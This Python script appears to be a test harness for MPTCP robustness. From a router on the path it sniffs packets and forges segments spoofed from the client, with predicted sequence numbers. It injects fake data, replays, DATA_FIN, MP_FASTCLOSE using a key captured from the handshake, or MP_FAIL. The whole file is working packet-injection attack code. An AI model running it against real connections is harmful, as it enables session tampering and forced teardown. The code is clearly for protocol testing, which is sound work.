#!/usr/bin/env python3
"""T16, T17, T19, T22: on a router of path 1, sees what passes, and sends
segments of its own from the client's address, with the sequence numbers that
the client's next segment will have, ahead of it.

usage: inject.py KIND IFACE CLIENT PORT REPORT  until SIGTERM; makes REPORT.up

KIND is data, with the mapping that the client's next data will have; replay,
the octets before it once more in that place; fin, a DATA_FIN there; fastclose,
MP_FASTCLOSE with the key seen in the handshake; or fail, MP_FAIL.
"""

import json
import select
import signal
import socket
import struct
import sys
import time

import stream
import wire

FIRST, EVERY = 10, 12   # which data segments are followed by a forged one
MOST = {"data": 3, "replay": 3, "fin": 1, "fastclose": 1, "fail": 1}


def frame_like(data):
    """Whether the octets have the shape of frames: what a forger imitates."""
    if len(data) < 20 or data[0] > 7:
        return False
    return struct.unpack("!H", data[1:3])[0] + 3 <= len(data)


class Injector:
    def __init__(self, kind, client, port):
        self.kind, self.client, self.port = kind, client, port
        self.out = socket.socket(socket.AF_INET, socket.SOCK_RAW,
                                 socket.IPPROTO_RAW)
        self.isns = {}
        self.key_b = None
        self.awaited = {}
        self.report = {"seen": 0, "read": 0, "injected": 0, "acked": 0,
                       "frames": 0, "sums": False,
                       "reset_reasons": []}

    def octets(self, data):
        """Of the same length: a record with other words, or what looks like a
        frame; or what was sent before."""
        evil = stream.record("c", self.report["seen"], stream.EVIL) * 3
        if self.kind == "replay":
            return data
        if frame_like(data):
            self.report["frames"] += 1
            return data[:3] + evil[:len(data) - 3]
        return evil[:len(data)]

    def forge(self, seg, dss):
        """The option and the octets of a segment right behind seg."""
        length = len(seg.data)
        into = (seg.seq - self.isns[seg.sport] - dss.ssn) % (1 << 32)
        dsn = (int.from_bytes(dss.dsn, "big") + into + length) % (1 << 64)
        ssn = (dss.ssn + into + length) % (1 << 32)
        if self.kind == "fin":
            return wire.dss(dsn, 0, 1, fin=True), b""
        if self.kind == "fastclose":
            return bytes([wire.MPTCP, 12, 0x70, 0]) + self.key_b, b""
        if self.kind == "fail":
            return bytes([wire.MPTCP, 12, 0x60, 0]) + \
                dsn.to_bytes(8, "big"), b""
        data = self.octets(seg.data)
        sums = wire.dss_sum(dsn, ssn, length, data) if dss.sums else None
        return wire.dss(dsn, ssn, length, sums=sums), data

    def inject(self, seg, dss):
        opt, data = self.forge(seg, dss)
        opts = [o for o in seg.opts if o[0] == wire.STAMPS] + [opt]
        forged = wire.Segment(seg.src, seg.sport, seg.dst, seg.dport,
                              seg.seq + len(seg.data), seg.ack, wire.ACK,
                              seg.wnd, opts, data)
        self.out.sendto(forged.pack(), (seg.dst, 0))
        self.awaited[seg.sport] = (forged.seq + len(data)) % (1 << 32)
        self.report["injected"] += 1
        self.report["sums"] = dss.sums

    def from_client(self, seg):
        if seg.flags & wire.SYN:
            self.isns[seg.sport] = seg.seq
            return
        capable = seg.mptcp(wire.CAPABLE)
        if capable and len(capable) >= 20:
            self.key_b = capable[12:20]
        dss = seg.mapping()
        if not seg.data or not dss or dss.dsn is None or \
                len(dss.dsn) < 8 or not dss.ssn or seg.sport not in self.isns:
            return
        self.report["seen"] += 1
        self.report["read"] += stream.readable(seg.data)
        n = self.report["seen"] - FIRST
        if n >= 0 and n % EVERY == 0 and len(seg.data) < 2 * stream.RECORD \
                and self.report["injected"] < MOST[self.kind]:
            self.inject(seg, dss)

    def from_server(self, seg):
        if seg.flags & wire.RST:
            self.report["reset_reasons"].append(seg.rst_reason())
        elif self.awaited.get(seg.dport) == seg.ack:
            del self.awaited[seg.dport]
            self.report["acked"] += 1

    def packet(self, pkt):
        seg = wire.Segment.parse(pkt)
        if seg and seg.src == self.client and seg.dport == self.port:
            self.from_client(seg)
        elif seg and seg.dst == self.client and seg.sport == self.port:
            self.from_server(seg)


def main():
    kind, iface, client, port, out = sys.argv[1:6]
    ear = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
    ear.bind((iface, 3))
    attack = Injector(kind, client, int(port))
    going = [True]
    signal.signal(signal.SIGTERM, lambda *_: going.clear())
    open(out + ".up", "w").close()
    end = time.monotonic() + 30
    while going and time.monotonic() < end:
        if select.select([ear], [], [], 0.1)[0]:
            attack.packet(ear.recv(65535))
    with open(out, "w", encoding="ascii") as f:
        json.dump(attack.report, f)


main()
